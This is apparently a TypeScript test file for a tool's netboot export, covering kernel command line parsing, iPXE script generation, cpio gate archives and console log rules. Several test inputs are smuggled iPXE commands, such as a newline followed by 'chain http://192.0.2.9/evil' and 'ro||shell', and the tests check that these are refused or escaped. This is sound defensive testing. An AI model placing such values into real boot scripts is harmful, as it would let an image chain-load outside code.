// Netboot artifacts and the netboot gate's pure parts: the command line read from the image (hostile
// content refused, never written into the script), the iPXE script, the files and sums of the
// export, the gate's cpio archives (read back by the host's cpio) and its console rules.
import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { exportImage } from '../../src/exporters/export.js'
import { CmdlineError, DEFAULT_CMDLINE, ipxeScript, kernelCmdline } from '../../src/exporters/netboot.js'
import { BuildError } from '../../src/util/errors.js'
import {
  NetbootRules,
  cleanLine,
  gateArchive,
  newcArchive,
  wrapperScript
} from '../../src/verify/netboot-guest.js'
import { Scratch, type Member } from './flatten-fixtures.js'
import { netbootCommand, serialPort } from '../../src/verify/netboot.js'
import { sweepLeftovers } from '../../src/pipeline/sweep.js'
import { OWNER } from '../../src/util/lifecycle.js'
import { SilentReporter } from '../../src/util/log.js'

const s = new Scratch()
afterAll(() => rmSync(s.dir, { recursive: true, force: true }))

describe('the kernel command line', () => {
  test('comes from /etc/kernel/cmdline with whitespace runs (newlines too) as one space; a default without one', () => {
    expect(kernelCmdline(undefined)).toBe(DEFAULT_CMDLINE)
    expect(kernelCmdline(Buffer.from('  \n'))).toBe(DEFAULT_CMDLINE)
    expect(kernelCmdline(Buffer.from('console=tty0 console=ttyS1,115200n8\n'))).toBe(
      'console=tty0 console=ttyS1,115200n8'
    )
    // A second line is more words, not a second script line (kernel-install reads it so too).
    expect(kernelCmdline(Buffer.from('ro quiet\nchain\thttp://192.0.2.9/x\r\n'))).toBe(
      'ro quiet chain http://192.0.2.9/x'
    )
  })

  test.each([
    ['an iPXE expansion', 'root=${base-url}', '$'],
    ['an iPXE command chain', 'ro||shell', '|'],
    ['another command', 'ro&&chain', '&'],
    ['a quote', 'dyndbg="file x +p"', '"'],
    ['a backslash', 'a=\\n', '\\'],
    ['a comment', 'ro #x', '#'],
    ['a control character', 'ro\x1bx', '\x1b'],
    ['a NUL', 'ro\0', '\0']
  ])('refuses %s, naming the file and the character', (_what, text, bad) => {
    expect(() => kernelCmdline(Buffer.from(text, 'latin1'))).toThrow(CmdlineError)
    const e = (() => {
      try {
        kernelCmdline(Buffer.from(text, 'latin1'))
      } catch (x) {
        return x as Error
      }
    })()
    expect(e?.message.startsWith('/etc/kernel/cmdline: the word ')).toBe(true)
    expect(e?.message).toContain(` has ${JSON.stringify(bad)}, which the netboot script cannot carry`)
  })

  test('refuses more than a kernel command line', () => {
    expect(() => kernelCmdline(Buffer.alloc(4096, 'a'))).toThrow(
      /4096 bytes, more than a kernel command line/
    )
  })
})

describe('boot.ipxe', () => {
  const script = ipxeScript({
    name: 'web',
    kernel: '6.1.0-9-amd64\nchain http://192.0.2.9/evil',
    cmdline: 'console=ttyS1,115200n8 ro',
    squashfs: true
  })
  const lines = script.split('\n')

  test('boots ${base-url}/vmlinuz and initrd with the command line, rootfs.squashfs when live is set', () => {
    expect(lines[0]).toBe('#!ipxe')
    expect(lines.filter((l) => l.startsWith('kernel '))).toEqual([
      'kernel ${base-url}/vmlinuz initrd=initrd console=ttyS1,115200n8 ro ${extra-args} || goto kiln-no-kernel'
    ])
    expect(lines).toContain('initrd ${base-url}/initrd || goto kiln-no-initrd')
    expect(lines).toContain('initrd ${base-url}/rootfs.squashfs /rootfs.squashfs || goto kiln-no-rootfs')
    // Every URL is under ${base-url} (or the user's own extra-initrd).
    const plain = ipxeScript({ name: 'web', kernel: '6.1', cmdline: 'ro', squashfs: true })
    for (const url of plain.match(/\S+:\/\/\S+/g) ?? []) expect(url).toBe('http://192.0.2.1/web')
    expect(ipxeScript({ name: 'web', kernel: '1', cmdline: 'ro', squashfs: false })).not.toContain('squashfs')
  })

  test('a kernel name from the image cannot add a line', () => {
    expect(lines.filter((l) => /^\s*chain/.test(l))).toEqual([])
    expect(script).toContain('kernel 6.1.0-9-amd64?x0achain?http://192.0.2.9/evil')
  })

  test('refuses a command line that was not checked', () => {
    expect(() => ipxeScript({ name: 'web', kernel: '1', cmdline: 'ro\nshell', squashfs: false })).toThrow(
      /unsafe/
    )
    expect(() => ipxeScript({ name: 'web', kernel: '1', cmdline: '${x}', squashfs: false })).toThrow(/unsafe/)
  })
})

describe('export netboot', () => {
  const image = (cmdline?: string): Member[] => [
    { name: 'boot/' },
    { name: 'boot/vmlinuz-6.1.0-9-amd64', content: 'KERNEL' },
    { name: 'boot/initrd.img-6.1.0-9-amd64', content: 'INITRD' },
    { name: 'etc/' },
    { name: 'etc/kernel/' },
    ...(cmdline === undefined ? [] : [{ name: 'etc/kernel/cmdline', content: cmdline }])
  ]

  test('writes netboot/vmlinuz, initrd, cmdline and boot.ipxe unwrapped, listed in SHA256SUMS and manifest.json', async () => {
    const r = await exportImage({
      layers: await s.layers(image('console=ttyS1,115200n8\n')),
      outDir: s.dir,
      name: 'nb',
      exports: ['netboot'],
      compression: 'gzip'
    })
    const net = join(r.dir, 'netboot')
    expect(readFileSync(join(net, 'vmlinuz'), 'utf8')).toBe('KERNEL')
    expect(readFileSync(join(net, 'initrd'), 'utf8')).toBe('INITRD')
    expect(readFileSync(join(net, 'cmdline'), 'utf8')).toBe('console=ttyS1,115200n8\n')
    expect(readFileSync(join(net, 'boot.ipxe'), 'utf8')).toContain(
      'initrd=initrd console=ttyS1,115200n8 ${extra-args}'
    )
    expect(r.archives.map((a) => a.file)).toEqual([
      'netboot/vmlinuz',
      'netboot/initrd',
      'netboot/cmdline',
      'netboot/boot.ipxe'
    ])
    expect(r.manifest.kernel).toBe('6.1.0-9-amd64')
    const out = execFileSync('sha256sum', ['-c', 'SHA256SUMS'], { cwd: r.dir, encoding: 'utf8' })
    expect(out).toContain('netboot/boot.ipxe: OK')
  })

  test('a hostile /etc/kernel/cmdline fails the export, naming image and file; nothing is half-written', async () => {
    const e = await exportImage({
      layers: await s.layers(image('root=/dev/sda ${base-url}\n')),
      outDir: s.dir,
      name: 'hostile',
      exports: ['netboot'],
      compression: 'none'
    }).catch((x: unknown) => x)
    expect(e).toBeInstanceOf(BuildError)
    expect(String((e as Error).message)).toMatch(
      /^hostile: .*\/etc\/kernel\/cmdline: the word \$\{base-url\} has "\$"/
    )
    expect(() => statSync(join(s.dir, 'hostile', 'netboot', 'boot.ipxe'))).toThrow()
  })

  test('the squashfs export is the rootfs, readable by unsquashfs', async () => {
    const r = await exportImage({
      layers: await s.layers(image()),
      outDir: s.dir,
      name: 'sq',
      exports: ['squashfs'],
      compression: 'none'
    })
    expect(r.archives.map((a) => [a.kind, a.file])).toEqual([['squashfs', 'netboot/rootfs.squashfs']])
    const list = execFileSync('unsquashfs', ['-l', '-d', '', join(r.dir, 'netboot/rootfs.squashfs')], {
      encoding: 'utf8'
    })
    expect(list).toContain('/boot/vmlinuz-6.1.0-9-amd64')
  })
})

test("a killed export's half-written netboot file (out/<image>/netboot/) goes with the next sweep", async () => {
  const [, start, host, boot] = /^\d+-([0-9a-z]+)-([0-9a-f]{6})-([0-9a-f]{6})$/.exec(OWNER)!
  const out = mkdtempSync(join(tmpdir(), 'kiln-netboot-sweep-'))
  try {
    mkdirSync(join(out, 'img', 'netboot'), { recursive: true })
    const dead = join(out, 'img', 'netboot', `rootfs.squashfs.tmp-4194399-${start}-${host}-${boot}`)
    writeFileSync(dead, 'x')
    await sweepLeftovers({ outDir: out, reporter: new SilentReporter() })
    expect(existsSync(dead)).toBe(false)
  } finally {
    rmSync(out, { recursive: true, force: true })
  }
})

describe('the gate', () => {
  test('gate.cpio unpacks with cpio: the boot method, and the check program (mode 755) in a cpio of its own', () => {
    const dir = mkdtempSync(join(tmpdir(), 'kiln-netboot-test-'))
    try {
      writeFileSync(join(dir, 'gate.cpio'), gateArchive('#!/bin/sh\necho hi\n', 'kiln-check'))
      execFileSync('sh', ['-c', 'cpio -id --quiet < gate.cpio && cd kiln && cpio -id --quiet < check.cpio'], {
        cwd: dir
      })
      expect(readFileSync(join(dir, 'scripts/kiln'), 'utf8')).toContain('mountroot()')
      expect(statSync(join(dir, 'kiln/kiln-check')).mode & 0o777).toBe(0o755)
      expect(newcArchive([]).subarray(0, 6).toString()).toBe('070701')
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })

  test('the boot file refuses unsafe values', () => {
    const ok = {
      token: 'abc',
      gateUrl: 'http://10.0.2.100/g',
      baseUrl: 'http://10.0.2.100',
      args: 'boot=kiln'
    }
    expect(wrapperScript(ok)).toContain('chain ${base-url}/boot.ipxe')
    expect(() => wrapperScript({ ...ok, args: 'x ${y}' })).toThrow(/unsafe/)
  })

  const feed = (lines: string[]): { verdict?: string; stage?: string; rules: NetbootRules } => {
    const rules = new NetbootRules('tok')
    for (const l of lines) {
      const v = rules.feed(l)
      if (v)
        return { verdict: `${v.passed ? 'passed' : 'failed'}: ${v.message}`, stage: rules.failedStage, rules }
    }
    return { rules }
  }

  test('console lines name the stage', () => {
    expect(
      feed([
        'Configuring (net0 52:54:00:12:34:56)...... No configuration methods succeeded (http://ipxe.org/040ee186)'
      ]).stage
    ).toBe('dhcp')
    expect(
      feed([
        'KILN-NETBOOT-START tok',
        'http://10.0.2.100/initrd... No such file or directory (http://ipxe.org/2d0c618e)',
        'Kiln netboot failed: cannot load the initrd http://10.0.2.100/initrd',
        'KILN-NETBOOT-SCRIPT-FAILED tok'
      ])
    ).toMatchObject({
      stage: 'initrd download',
      verdict: expect.stringMatching(/^failed: initrd download: cannot load/)
    })
    expect(
      feed(['KILN-NETBOOT-START tok', 'kernal: command not found', 'KILN-NETBOOT-SCRIPT-FAILED tok']).verdict
    ).toBe('failed: script: boot.ipxe failed: kernal: command not found')
    expect(
      feed([
        'KILN-NETBOOT-START tok',
        '[    0.000000] Linux version 6.1.0',
        'KILN-NETBOOT-ROOT-FAIL the initrd cannot mount squashfs'
      ]).stage
    ).toBe('root')
    expect(
      feed(['KILN-NETBOOT-START tok', 'Linux version 6.1', 'Kernel panic - not syncing: VFS']).stage
    ).toBe('panic')
    expect(feed(['KILN-NETBOOT-START tok', 'Linux version 6.1', 'KILN-BOOT-OK 6.1 tok']).verdict).toMatch(
      /^passed/
    )
    // A marker with another run's token passes nothing.
    expect(feed(['KILN-NETBOOT-START tok', 'KILN-BOOT-OK 6.1 other']).verdict).toBeUndefined()
    const r = feed(['KILN-NETBOOT-START tok', 'Linux version 6.1']).rules
    expect(r.stage).toBe('root')
  })

  test("the kernel's console port is the image's first ttyS; qemu puts it on stderr beside COM1", () => {
    expect(serialPort('ro')).toBe(0)
    expect(serialPort('console=tty0 console=ttyS1,115200n8 console=ttyS0')).toBe(1)
    expect(serialPort('console=ttyS12')).toBe(0)
    const base = {
      accel: 'tcg' as const,
      memoryMiB: 1024,
      tftpDir: '/t/tftp',
      relay: '/t/relay.mjs',
      port: 5
    }
    expect(netbootCommand({ ...base, serial: 0 }).args.join(' ')).toContain('-serial stdio -netdev')
    expect(netbootCommand({ ...base, serial: 2 }).args.join(' ')).toContain(
      '-chardev socket,id=kernel-console,fd=2 -serial stdio -serial null -serial chardev:kernel-console'
    )
    const netdev = netbootCommand({ ...base, serial: 0 }).args.find((a) => a.startsWith('user,'))
    expect(netdev).toMatch(
      /^user,id=n0,restrict=on,tftp=\/t\/tftp,bootfile=kiln.ipxe,guestfwd=tcp:10.0.2.100:80-cmd:\S+ \/t\/relay.mjs 5$/
    )
    expect(() => netbootCommand({ ...base, serial: 0, tftpDir: '/t t' })).toThrow(/space or comma/)
  })

  test('a kernel that iPXE started but that printed nothing is named', () => {
    const r = feed(['KILN-NETBOOT-START tok', 'Probing EDD (edd=off to disable)... o\x1bc']).rules
    expect(r.explainNoVerdict()).toMatch(/^kernel start: /)
    expect(r.failedStage).toBe('kernel start')
  })

  test('iPXE progress and escape sequences are cleaned from console lines', () => {
    expect(cleanLine('\x1b[0;1mhttp://x/initrd... 77%\b\b\b\b    \b\b\b\b ok\r')).toBe(
      'http://x/initrd... 77%     ok'
    )
  })
})
